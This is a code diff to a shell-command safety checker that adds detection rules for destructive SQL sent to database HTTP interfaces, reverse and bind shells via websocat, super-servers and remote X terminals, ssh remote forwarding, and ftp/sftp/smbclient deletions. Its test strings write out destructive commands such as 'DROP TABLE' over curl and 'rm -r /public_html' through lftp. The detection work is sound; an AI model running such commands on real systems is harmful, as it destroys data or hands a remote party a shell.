@@ -991,6 +991,90 @@ def http_delete(cmd: SimpleCommand, sc: Scope) -> str | None:
     return None
 
 
+# Where an HTTP request carries a statement for a database's HTTP interface: the body (curl -d/--data-*/--json, wget
+# --post-data/--body-data, httpie's raw body), a form or query field (ClickHouse's ?query=, InfluxDB's q=, a JSON
+# body's "query"/"sql"/"stmt"/"statement" as Hasura's run_sql, CrateDB's _sql, Databricks' statements API take it).
+_CURL_BODY = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "--url-query", "-F", "--form"})
+_WGET_BODY = ("--post-data=", "--body-data=")
+_SQL_FIELDS = frozenset({"query", "q", "sql", "stmt", "statement", "command"})
+_JSON_SQL = lazy(r'"(?:query|sql|stmt|statement|command)"\s*:\s*"((?:[^"\\]|\\.){1,20000})"', 0)
+
+
+def _request_texts(cmd: SimpleCommand) -> list[str]:
+    """The texts an HTTP client sends that may be a statement: bodies, fields, query parameters (decoded)."""
+    vals = cmd.values()
+    raw: list[str] = []
+    for i, v in enumerate(vals):
+        if cmd.name == "curl":
+            if v in _CURL_BODY and i + 1 < len(vals):
+                raw.append(vals[i + 1])
+            elif v.startswith("--data") and "=" in v:
+                raw.append(v.split("=", 1)[1])
+            elif v.startswith("-d") and len(v) > 2:
+                raw.append(v[2:])
+        elif cmd.name == "wget" and v.startswith(_WGET_BODY):
+            raw.append(v.split("=", 1)[1])
+        elif cmd.name in ("http", "https", "xh") and not v.startswith("-"):
+            for sep in ("==", ":=", "="):
+                field, found, value = v.partition(sep)
+                if found and field.lower() in _SQL_FIELDS:
+                    raw.append(value)
+                    break
+        if "://" in v and "?" in v and not v.startswith("-"):
+            raw.append(v.split("?", 1)[1])
+    out: list[str] = []
+    for text in raw:
+        if DYN in text:
+            continue
+        out.append(text)
+        out += [m.group(1).replace('\\"', '"') for m in _JSON_SQL.finditer(text)]
+        field, eq, value = text.partition("=")
+        if eq and field.lower() in _SQL_FIELDS:
+            out.append(value)  # --data-urlencode 'q=DROP …' (sent encoded, read as written)
+        if "=" in text and "{" not in text:
+            for pair in text.split("&"):  # a form or query string: its fields, percent-decoded
+                name, eq, value = pair.partition("=")
+                if eq and _percent_decode(name, True).lower() in _SQL_FIELDS:
+                    out.append(_percent_decode(value, True))
+    return out
+
+
+@rule(
+    id="net.http-destructive-sql",
+    title="A statement that destroys data sent to a database's HTTP interface",
+    why=(
+        "ClickHouse, InfluxDB, CrateDB, Hasura, Databricks and others take SQL over HTTP (a body, ?query=, q=, a JSON "
+        '"sql" field): DROP, TRUNCATE or DELETE without WHERE sent that way destroys data as it does through psql '
+        "(db.destructive-sql), whatever the client."
+    ),
+    verdict=SOFT_DENY,
+    commands=("curl", "wget", "http", "https", "xh"),
+    match=(
+        "curl 'http://localhost:8123/' --data-binary 'DROP TABLE events'",
+        "curl -X POST http://localhost:8086/query --data-urlencode 'q=DROP DATABASE metrics'",
+        "curl 'http://ch.internal:8123/?query=TRUNCATE%20TABLE%20logs'",
+        'curl -X POST https://hasura.example.com/v2/query -d \'{"type":"run_sql","args":{"sql":"DROP TABLE users"}}\'',
+        "http POST localhost:4200/_sql stmt='DELETE FROM orders'",
+    ),
+    no_match=(
+        "curl 'http://localhost:8123/' --data-binary 'SELECT count() FROM events'",
+        "curl -G http://localhost:8086/query --data-urlencode 'q=SHOW DATABASES'",
+        "curl -d 'comment=please drop table' https://example.com/form",
+        "curl -X POST localhost:3000/api/login -d 'u=a'",
+    ),
+)
+def http_destructive_sql(cmd: SimpleCommand, sc: Scope) -> str | None:
+    from ..code.sql import read
+
+    for text in _request_texts(cmd):
+        if not any(k in text.upper() for k in ("DROP", "TRUNCATE", "DELETE", "UPDATE", "FLUSH")):
+            continue
+        stmt = read(text).destructive()
+        if stmt is not None:
+            return f"{cmd.name} sends {stmt.show()!r} to a database's HTTP interface, which destroys data"
+    return None
+
+
 def _on_local_network(host: str) -> bool:
     """A private IPv4 address (10/8, 172.16/12, 192.168/16) or an mDNS name (.local)."""
     h = host.lower()
@@ -1077,6 +1161,18 @@ def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
                 # The socket becomes the program's input and output: a shell or interpreter there takes commands from
                 # the other end (a listener so bound is a shell for whoever connects); `--exec /bin/cat` echoes.
                 return f"{cmd.name} {v} {program if not v.endswith(program) else ''}".rstrip() + " gives a remote party a shell"
+    if cmd.name == "websocat":
+        shell = _websocat_shell(vals)
+        if shell:
+            return f"websocat connects a network socket to {shell}"
+    if cmd.name in _SUPER_SERVERS:
+        served = _served_program(cmd.name, vals)
+        if served is not None and _runs_shell(served) and not _runs_a_script(served):
+            return f"{cmd.name} runs {served} on every connection it accepts, the socket as its input and output (a bind shell)"
+    if cmd.name in _TERMINALS:
+        display = _remote_display(cmd)
+        if display:
+            return f"{cmd.name} opens its terminal, a shell, on the X display {display} of another machine"
     if cmd.name == "socat" and not socat_local(cmd):
         # A shell or interpreter on the socket reads its program from the other side; another program (`SYSTEM:id`,
         # `EXEC:/bin/cat`) is judged as the command it is, fed by the network (shell/unwrap.py).  Between local
@@ -1096,6 +1192,129 @@ def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
                 # (net.upload-untrusted); only an echo of the socket itself (EXEC:/bin/cat) sends nothing of this machine.
                 return f"socat sends what {first} prints ({how}:{prog}) to the other side of a network socket"
     return None
+
+
+# websocat's address types (websocat --help=long, doc.md): a positional argument is `OVERLAY:…:ADDRESS`; these run a
+# program on the connection (exec:PROG with --exec-args, cmd: and sh-c: a command line for sh -c), these are local
+# (stdio, a UNIX socket, a file, a message echo); any other (ws://, wss://, ws-l:, tcp:, tcp-l:, udp: …) is a network one.
+_WEBSOCAT_PROGRAMS = ("exec:", "cmd:", "sh-c:")
+_WEBSOCAT_LOCAL = (
+    "-",
+    "unix:",
+    "unix-l:",
+    "l-unix:",
+    "abstract:",
+    "abstract-l:",
+    "l-abstract:",
+    "stdio:",
+    "mirror:",
+    "literal:",
+    "file:",
+    "readfile:",
+    "writefile:",
+)
+
+
+def _websocat_shell(vals: list[str]) -> str | None:
+    """The shell or interpreter websocat puts on a network connection (`websocat ws-l:0.0.0.0:8080 exec:bash`,
+    `websocat ws://HOST sh-c:'sh -i'`), else None; a program that is no shell is judged as the command it is."""
+    operands = [v for v in vals if not v.startswith("-") or v == "-"]
+    program = None
+    network = False
+    for v in operands:
+        low = v.lower()
+        inner = low
+        for _ in range(8):  # past overlays (reuse:, autoreconnect:, broadcast: …) to the address type
+            if inner.startswith(_WEBSOCAT_PROGRAMS) or inner.startswith(_WEBSOCAT_LOCAL) or "://" in inner.split(":", 1)[0] + ":":
+                break
+            head, colon, rest = inner.partition(":")
+            if not colon or not head.replace("-", "").isalnum() or not rest or rest[:1].isdigit():
+                break
+            inner = rest
+        if inner.startswith(_WEBSOCAT_PROGRAMS):
+            program = v[len(v) - len(inner) :].split(":", 1)[1]
+            if inner.startswith("exec:"):
+                program = program.split(" ", 1)[0]
+        elif not inner.startswith(_WEBSOCAT_LOCAL):
+            network = True
+    if program is not None and network and _runs_shell(program):
+        return program
+    return None
+
+
+# Super-servers: they accept connections and run a program for each, the connection as its standard input and output
+# (ucspi-tcp's tcpserver(1), busybox tcpsvd/udpsvd, s6-tcpserver, systemd-socket-activate(1) --inetd), as `ncat -l -e`
+# does: the options that take a value, and how many operands (host, port) come before the program.
+_SUPER_SERVERS: dict[str, tuple[frozenset[str], int]] = {
+    "tcpserver": (frozenset({"-c", "-C", "-b", "-x", "-B", "-g", "-u", "-l", "-t"}), 2),
+    "tcpsvd": (frozenset({"-c", "-C", "-b", "-u", "-l", "-i", "-x"}), 2),
+    "udpsvd": (frozenset({"-c", "-C", "-b", "-u", "-l", "-i", "-x"}), 2),
+    "s6-tcpserver": (frozenset({"-c", "-C", "-b", "-g", "-u"}), 2),
+    "s6-tcpserver4": (frozenset({"-c", "-C", "-b", "-g", "-u"}), 2),
+    "s6-tcpserver6": (frozenset({"-c", "-C", "-b", "-g", "-u"}), 2),
+    "systemd-socket-activate": (frozenset({"-l", "--listen", "-E", "--setenv", "--fdname"}), 0),
+}
+
+
+def _served_program(name: str, vals: list[str]) -> str | None:
+    """The command line a super-server runs per connection (its words from the program on), else None."""
+    takes, before = _SUPER_SERVERS[name]
+    i = 0
+    operands = 0
+    while i < len(vals):
+        v = vals[i]
+        if v == "--":
+            i += 1
+            break
+        if v.startswith("-") and operands < before + 1:
+            i += 2 if v in takes else 1
+            continue
+        if operands == before:
+            break
+        operands += 1
+        i += 1
+    if i >= len(vals):
+        return None
+    return " ".join(vals[i:])
+
+
+def _runs_a_script(command: str) -> bool:
+    """Whether a shell or interpreter command line names a script or code to run (`python3 app.py`, `sh -c 'date'`,
+    `ruby -e CODE`) rather than reading its commands from its input (`/bin/sh -i`, `bash`, `python3`)."""
+    import shlex
+
+    try:
+        words = shlex.split(command)
+    except ValueError:
+        return False
+    for i, w in enumerate(words[1:], 1):
+        if w == "-c" and i + 1 < len(words):
+            inner = words[i + 1]  # `sh -c 'bash -i'`: what the command line runs
+            return not (_runs_shell(inner) and not _runs_a_script(inner))
+        if w in ("-e", "-m", "-r") or (not w.startswith("-") and DYN not in w):
+            return True
+    return False
+
+
+# Terminal emulators (xterm …): with a display on another machine (`-display HOST:1`, DISPLAY=HOST:0) the terminal and
+# the shell in it are shown to, and typed into by, whoever runs that X server: a reverse shell over X11.
+_TERMINALS = frozenset({"xterm", "uxterm", "rxvt", "urxvt", "konsole", "xfce4-terminal", "lxterminal", "terminator", "st", "alacritty", "kitty"})
+
+
+def _remote_display(cmd: SimpleCommand) -> str | None:
+    vals = cmd.values()
+    display = cmd.assigns.get("DISPLAY")
+    for i, v in enumerate(vals):
+        if v in ("-display", "--display", "-d") and i + 1 < len(vals):
+            display = vals[i + 1]
+        elif v.startswith("--display="):
+            display = v.split("=", 1)[1]
+    if not display:
+        return None
+    host = display.rpartition(":")[0]
+    if DYN in display or host in ("", "localhost", "127.0.0.1", "::1", "unix") or host.startswith("/"):
+        return None
+    return display
 
 
 _SOCKETS = ("/dev/tcp/", "/dev/udp/")
@@ -1951,7 +2170,7 @@ def _shares_terminal(name: str, vals: list[str]) -> str | None:
     why="ngrok, cloudflared tunnels and ssh -R make a service on this machine reachable from outside the organisation, and "
     "terminal sharers (code tunnel, upterm, sshx, tmate, ttyd, gotty) a shell on it; a person should decide that.",
     verdict=ASK,
-    commands=("ngrok", "cloudflared", "lt", "localtunnel", "ssh", "bore", "tailscale", "frpc", *sorted(_TERMINAL_SHARERS)),
+    commands=("ngrok", "cloudflared", "lt", "localtunnel", "ssh", "autossh", "dbclient", "bore", "tailscale", "frpc", *sorted(_TERMINAL_SHARERS)),
     match=(
         "ngrok http 3000",
         "cloudflared tunnel --url http://localhost:8080",
@@ -1966,9 +2185,11 @@ def tunnel(cmd: SimpleCommand, sc: Scope) -> str | None:
     vals = cmd.values()
     if cmd.name in _TERMINAL_SHARERS:
         return _shares_terminal(cmd.name, vals)
-    if cmd.name == "ssh":
-        if any(v == "-R" or (v.startswith("-R") and len(v) > 2) for v in vals):
-            return "ssh -R forwards a port of this machine to a remote host"
+    if cmd.name in ("ssh", "autossh", "dbclient"):
+        # -R, or its ssh_config keyword given with -o (`-o RemoteForward=4444:localhost:22`, `-oRemoteForward 80 …`);
+        # dropbear's client and autossh take ssh's -R.
+        if any(v == "-R" or (v.startswith("-R") and len(v) > 2) for v in vals) or _ssh_option_given(vals, "remoteforward"):
+            return f"{cmd.name} -R forwards a port of this machine to a remote host"
         return None
     if cmd.name == "cloudflared":
         return "cloudflared tunnel exposes a local service to the internet" if "tunnel" in vals else None
@@ -1977,6 +2198,20 @@ def tunnel(cmd: SimpleCommand, sc: Scope) -> str | None:
     if any(v.startswith("-") and v in ("--version", "-v", "version", "help", "--help") for v in vals) or vals[:1] in (["version"], ["help"], ["config"]):
         return None
     return f"{cmd.name} exposes a local service to the internet"
+
+
+def _ssh_option_given(vals: list[str], key: str) -> bool:
+    """Whether ssh's -o sets the ssh_config keyword *key* (lower case): `-o Key=V`, `-o 'Key V'`, `-oKey=V`."""
+    for i, v in enumerate(vals):
+        if v == "-o" and i + 1 < len(vals):
+            opt = vals[i + 1]
+        elif v.startswith("-o") and len(v) > 2:
+            opt = v[2:]
+        else:
+            continue
+        if opt.replace("=", " ").split(" ", 1)[0].strip().lower() == key:
+            return True
+    return False
 
 
 _SERVE_DIR_OPTS = {"http.server": ("--directory", "-d"), "php": ("-t",), "http-server": (), "serve": (), "uploadserver": ("--directory", "-d")}
@@ -2190,6 +2425,48 @@ def file_transfer_upload(cmd: SimpleCommand, sc: Scope) -> str | None:
     if not bad:
         return None
     return f"{cmd.name} uploads files to {bad[0]}, which is not a trusted host"
+
+
+# The commands of ftp(1), sftp(1), lftp(1), smbclient(1) and ncftp that delete on the server: rm (lftp's rm -r),
+# rmdir, delete and mdelete, del (smbclient), deltree (smbclient's recursive delete), lftp's glob rm and mrm, and
+# lftp's mirror with --delete / -e (files missing from the source are deleted at the destination, the server under -R).
+_FILE_DELETE = lazy(r"(?:^|[\s;])(?:rm|rmdir|m?delete|mdel|del|deltree|mrm|glob\s+rm|mirror\s+(?:\S+\s+)*?(?:--delete\S*|-\w*e\w*))(?:\s|$)", MULTILINE)
+
+
+@rule(
+    id="net.file-transfer-delete",
+    title="Deleting files on a server through ftp, sftp, lftp or smbclient commands",
+    why=(
+        "The delete commands of these clients (rm, rmdir, delete, mdelete, deltree, lftp's mirror --delete) remove files "
+        "on another machine, often a live site or a shared drive; they arrive in a -c/-e script, a here-string or a "
+        "here-document, not on the command line. Whether the files are scratch or production cannot be seen: a person confirms."
+    ),
+    verdict=ASK,
+    commands=("ftp", "sftp", "lftp", "smbclient", "ncftp", "tnftp"),
+    match=(
+        "lftp -e 'rm -r /public_html; quit' ftp.example.com",
+        "smbclient //nas/share -c 'deltree data'",
+        "sftp deploy@www.example.com <<< 'rm /srv/app/db.sqlite'",
+        "ftp -n ftp.example.com <<< 'mdelete *.html'",
+        "lftp -c 'open ftp.example.com; mirror -R --delete dist /www'",
+    ),
+    no_match=(
+        "lftp -e 'mirror -R dist /www; quit' ftp.example.com",
+        "smbclient //nas/share -c 'ls'",
+        "sftp -b - files.example <<< 'get report.csv'",
+        "ftp -n ftp.example.com <<< 'dir'",
+    ),
+)
+def file_transfer_delete(cmd: SimpleCommand, sc: Scope) -> str | None:
+    vals = cmd.values()
+    script = cmd.stdin_text or ""
+    for i, v in enumerate(vals):
+        if v in ("-c", "-e", "--command") and i + 1 < len(vals):
+            script += "\n" + vals[i + 1]
+    m = _FILE_DELETE.search(script.replace(";", "\n"))
+    if m is None:
+        return None
+    return f"{cmd.name} deletes files on the server ({m.group(0).strip()})"
 
 
 @rule(
